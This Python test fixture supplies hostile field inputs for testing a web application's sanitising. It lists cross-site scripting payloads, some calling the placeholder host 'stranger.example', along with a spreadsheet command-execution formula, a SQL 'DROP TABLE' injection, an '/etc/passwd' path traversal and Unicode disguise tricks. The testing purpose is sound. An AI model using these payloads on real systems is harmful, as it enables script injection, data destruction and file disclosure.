"""What people with bad intent, or bad luck, type into fields."""

from __future__ import annotations

import itertools
from collections.abc import Callable

MARK = "stranger.example"
"""The host that every payload would call."""
FLAG = "window.countersign_was_broken"
"""What every script would set."""
_SET = f"{FLAG}=1"

PAYLOADS: tuple[str, ...] = (
    # Scripts, and markup that runs one.
    f"<script>{_SET}</script>",
    f"<script src=//{MARK}/a.js></script>",
    f"<img src=x onerror={_SET}>",
    f"<img src=//{MARK}/a.png>",
    f"<svg onload={_SET}>",
    f"<svg><animate onbegin={_SET} attributeName=x dur=1s>",
    f"<body onload={_SET}>",
    f"<iframe src=javascript:{_SET}></iframe>",
    f"<iframe srcdoc='<script>parent.{_SET}</script>'></iframe>",
    f"<object data=//{MARK}/a></object>",
    f"<embed src=//{MARK}/a>",
    f"<video><source onerror={_SET}></video>",
    f"<details open ontoggle={_SET}>x</details>",
    f"<input autofocus onfocus={_SET}>",
    f"<marquee onstart={_SET}>x</marquee>",
    f"<a href=javascript:{_SET}>click</a>",
    f"<form action=//{MARK}/a><button>go</button></form>",
    f"<link rel=stylesheet href=//{MARK}/a.css>",
    f"<style>@import url(//{MARK}/b.css);</style>",
    f"<style>body{{background:url(//{MARK}/c.png)}}</style>",
    f"<div style=background:url(//{MARK}/d.png)>x</div>",
    f"<meta http-equiv=refresh content=0;url=//{MARK}>",
    f"<base href=//{MARK}/>",
    f"</div></article></main><script>{_SET}</script>",
    f"</script><script>{_SET}</script>",
    f"</style><script>{_SET}</script>",
    f"</textarea><script>{_SET}</script>",
    f"</title><script>{_SET}</script>",
    f'"><script>{_SET}</script>',
    f"'><img src=x onerror={_SET}>",
    f'" onmouseover={_SET} x="',
    f"' autofocus onfocus={_SET} x='",
    f"<scr<script>ipt>{_SET}</scr</script>ipt>",
    f"<ScRiPt>{_SET}</sCrIpT>",
    f"&lt;script&gt;{_SET}&lt;/script&gt;",
    "<!-- a comment",
    "--> <![CDATA[ x ]]>",
    # Markdown.
    f"![x](//{MARK}/e.png)",
    f"![x](https://{MARK}/f.png)",
    f"[click](javascript:{_SET})",
    f"[click](https://{MARK})",
    f"<https://{MARK}>",
    f"https://{MARK}/plain",
    f"[x]: https://{MARK} 'x'",
    "**bold** _it_ ~~no~~ `code` # head",
    "> quote\n\n- one\n\n1. two\n\n---",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    ":material/home: :red[red] :smile: :red-badge[x]",
    "$x^2$ $$\\frac{1}{0}$$ \\(x\\)",
    f"$\\href{{https://{MARK}}}{{x}}$",
    # Templates, formulas, queries, paths.
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} %s %n %(a)s",
    "=1+1",
    f'=HYPERLINK("//{MARK}","x")',
    "+1-1 @SUM(A1) -1+1",
    "=cmd|'/C calc'!A0",
    "'; DROP TABLE review_case; --",
    "../../etc/passwd",
    # Letters that take much room or little.
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3 \u00df\u0130\u0131",
    "Z" + "\u0300" * 30 + "algo",
    "\ufdfd" * 8,
    "W" * 150,
)
HIDDEN: tuple[str, ...] = (
    "a\u202egnp.exe",
    "zero\u200bwidth",
    "null\x00byte",
    "bell\x07",
    "lone\ufeffmark",
    "left\u2066to\u2069right",
)
"""What no field may keep: it hides or reorders what stands around it."""
SHORT = 190
"""A name has room for this many letters."""


def hostile_words() -> Callable[[str], str]:
    """Deal the payloads out, one after the other, over as many places as there are."""
    dealt = itertools.cycle(PAYLOADS)

    def words(place: str) -> str:
        said = next(dealt)
        if place.startswith(("name_of", "file_name")):
            said = " ".join(said.split())[:SHORT]
        return said

    return words
